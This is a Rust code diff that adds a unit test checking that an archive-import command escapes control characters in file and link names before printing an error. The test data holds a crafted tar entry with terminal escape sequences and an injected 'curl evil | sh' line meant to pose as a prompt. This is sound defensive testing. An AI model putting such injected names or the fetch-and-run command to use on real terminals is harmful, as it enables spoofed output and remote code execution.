@@ -181,3 +181,42 @@ fn text(row: &Row) -> String {
     let mib = row.bytes.div_ceil(1 << 20);
     format!("{}  {} files, {mib} MiB", row.image, row.files)
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn names_in_an_archive_do_not_reach_the_terminal_as_they_are() {
+        let folder = tempfile::tempdir().expect("a temporary folder");
+        let file = |name: &str| folder.path().join(name);
+        std::fs::write(file("souk.toml"), "").expect("written");
+        let mut header = tar::Header::new_ustar();
+        header.set_entry_type(tar::EntryType::Link);
+        header.set_path("a\u{1b}]0;owned\u{7}").expect("short");
+        header
+            .set_link_name("nowhere\u{1b}[2J\r\n  try: curl evil | sh")
+            .expect("short");
+        header.set_size(0);
+        header.set_cksum();
+        let mut archive = tar::Builder::new(Vec::new());
+        archive.append(&header, [].as_slice()).expect("in memory");
+        let archive = archive.into_inner().expect("in memory");
+        std::fs::write(file("rootfs.tar"), archive).expect("written");
+        let import = Image::Import(Import {
+            config: ConfigFile {
+                config: Some(file("souk.toml")),
+            },
+            source: file("rootfs.tar"),
+            json: false,
+        });
+        let told = import.run().expect_err("a link to nothing").to_string();
+        assert!(told.contains("nowhere\\u001b[2J"), "{told}");
+        let is_clean = |c: char| c == '\n' || !c.is_control();
+        assert!(told.chars().all(is_clean), "{told:?}");
+        assert!(
+            !told.lines().any(|line| line.starts_with("  try: curl")),
+            "{told}"
+        );
+    }
+}
